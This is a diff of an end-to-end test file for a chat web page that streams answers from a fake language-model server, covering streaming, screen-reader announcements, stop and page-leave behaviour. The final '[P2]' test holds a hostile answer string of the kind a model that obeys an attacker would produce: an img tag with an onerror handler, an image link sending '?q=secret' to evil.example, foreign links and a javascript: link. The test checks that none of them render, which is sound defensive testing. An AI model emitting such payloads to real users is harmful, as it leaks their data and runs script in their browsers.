@@ -1,9 +1,21 @@
 // Answers as they are written, by a language model that is a small server of our own: shown, spoken, stopped, and safe.
+import { afterAll } from "vitest";
 import { startFakeModel } from "../test/fake-model.ts";
-import type { FakeModel } from "../test/fake-model.ts";
 import { expectAccessible } from "./axe.ts";
-import { begin, distanceOf, input, list, messages, openChat, placeholder, sendButton, settled, stopButton } from "./chat-page.ts";
+import {
+  begin,
+  distanceOf,
+  input,
+  list,
+  messages,
+  openChat,
+  placeholder,
+  sendButton,
+  settled,
+  stopButton,
+} from "./chat-page.ts";
 import { startSite } from "./site.ts";
+import type { Site } from "./site.ts";
 import { expect, test as base } from "./test.ts";
 import { eventually } from "./visitor.ts";
 
@@ -11,17 +23,12 @@ const question = "How long does a project take?";
 const sentences = Array.from({ length: 24 }, (_, index) => `Sentence ${index + 1} of the answer is here.`);
 const slowly = { kind: "say", pieces: sentences.join(" ").match(/\S+\s*/g) ?? [], pauseMs: 60 } as const;
 
-const test = base.extend<{ model: FakeModel }>({
-  model: [
-    async ({}, use) => {
-      const model = await startFakeModel();
-      await use(model);
-      await model.close();
-    },
-    { scope: "file" },
-  ],
+const model = await startFakeModel();
+afterAll(() => model.close());
+
+const test = base.extend<{ site: Site }>({
   site: [
-    async ({ model }, use) => {
+    async ({}, use) => {
       const site = await startSite({ AI_BASE_URL: model.url, AI_MODEL: "fake-1", AI_ANSWER_SECONDS: "60" });
       await use(site);
       await site.stop();
@@ -30,7 +37,9 @@ const test = base.extend<{ model: FakeModel }>({
   ],
 });
 
-test("[CHAT-28] [A17,A19] an answer grows as it is written; a reader who goes up stays there; screen readers hear sentences, one every 2 s at most", async ({ page, model }) => {
+test("[A17,A19,CHAT-28] an answer grows as it is written; a reader who goes up stays there; screen readers hear sentences, one every 2 s at most", async ({
+  page,
+}) => {
   model.behave(slowly);
   await openChat(page);
   await begin(page);
@@ -40,20 +49,29 @@ test("[CHAT-28] [A17,A19] an answer grows as it is written; a reader who goes up
     const log = document.querySelector('[role="log"]');
     if (!log || log.getAttribute("aria-live") !== "polite") throw new Error("There is no polite log.");
     new MutationObserver((changes) => {
-      for (const { addedNodes } of changes) for (const node of addedNodes) said.push({ at: performance.now(), text: node.textContent ?? "" });
+      for (const { addedNodes } of changes)
+        for (const node of addedNodes) said.push({ at: performance.now(), text: node.textContent ?? "" });
     }).observe(log, { childList: true, subtree: true });
   });
   await input(page).fill(question);
   await input(page).press("Enter");
   await messages(page, "assistant").getByText("Sentence 1 of").waitFor();
   const early = (await messages(page, "assistant").innerText()).length;
-  expect([await input(page).isDisabled(), await sendButton(page).isDisabled(), await stopButton(page).isVisible()]).toEqual([true, true, true]);
+  expect([
+    await input(page).isDisabled(),
+    await sendButton(page).isDisabled(),
+    await stopButton(page).isVisible(),
+  ]).toEqual([true, true, true]);
   expect(await list(page).getAttribute("aria-busy")).toBe("true");
   await expectAccessible(page, "streaming");
   await messages(page, "assistant").getByText("Sentence 24 of").waitFor({ timeout: 30_000 });
   await settled(page, 1);
   expect((await messages(page, "assistant").innerText()).length).toBeGreaterThan(early);
-  await eventually(() => page.evaluate(() => (Object(globalThis).said as { text: string }[]).some(({ text }) => text.includes("Sentence 24")))).toBe(true);
+  await eventually(() =>
+    page.evaluate(() =>
+      (Object(globalThis).said as { text: string }[]).some(({ text }) => text.includes("Sentence 24")),
+    ),
+  ).toBe(true);
   const said = await page.evaluate(() => Object(globalThis).said as { at: number; text: string }[]);
   expect(said.length).toBeGreaterThan(2);
   for (const [index, { at, text }] of said.entries()) {
@@ -76,7 +94,7 @@ test("[CHAT-28] [A17,A19] an answer grows as it is written; a reader who goes up
   expect(await list(page).evaluate((element) => element.scrollTop)).toBe(top);
 });
 
-test("the stop button ends the writing within a second, and what was written stays", async ({ page, model }) => {
+test("the stop button ends the writing within a second, and what was written stays", async ({ page }) => {
   model.behave(slowly);
   await openChat(page);
   await begin(page);
@@ -94,7 +112,7 @@ test("the stop button ends the writing within a second, and what was written sta
   expect(await messages(page, "assistant").innerText()).not.toContain("Sentence 24");
 });
 
-test("leaving the page ends the writing", async ({ page, model }) => {
+test("leaving the page ends the writing", async ({ page }) => {
   model.behave(slowly);
   await openChat(page);
   await begin(page);
@@ -106,8 +124,11 @@ test("leaving the page ends the writing", async ({ page, model }) => {
   await eventually(() => model.open()).toBe(0);
 });
 
-test("[P2] a model that obeys an attacker puts no HTML, no picture and no foreign link on the page", async ({ page, model }) => {
-  const hostile = 'Yes. <img src="https://evil.example/a.png" onerror="document.title=1"> ![x](https://evil.example/?q=secret) [click](https://evil.example/) [run](javascript:alert(1)) [go](//evil.example) **[bold](https://evil.example)** [prices](/faq) [1]';
+test("[P2] a model that obeys an attacker puts no HTML, no picture and no foreign link on the page", async ({
+  page,
+}) => {
+  const hostile =
+    'Yes. <img src="https://evil.example/a.png" onerror="document.title=1"> ![x](https://evil.example/?q=secret) [click](https://evil.example/) [run](javascript:alert(1)) [go](//evil.example) **[bold](https://evil.example)** [prices](/faq) [1]';
   model.behave({ kind: "say", pieces: hostile.match(/[\s\S]{1,9}/g) ?? [], pauseMs: 5 });
   await openChat(page);
   await begin(page);
@@ -117,5 +138,6 @@ test("[P2] a model that obeys an attacker puts no HTML, no picture and no foreig
   await placeholder(page).waitFor({ state: "detached" });
   const answer = messages(page, "assistant");
   expect(await answer.locator("img, iframe, script, style").count()).toBe(0);
-  for (const href of await answer.locator("a").evaluateAll((all) => all.map((link) => Object(link).href as string))) expect(new URL(href).hostname).toBe("localhost");
+  for (const href of await answer.locator("a").evaluateAll((all) => all.map((link) => Object(link).href as string)))
+    expect(new URL(href).hostname).toBe("localhost");
 });
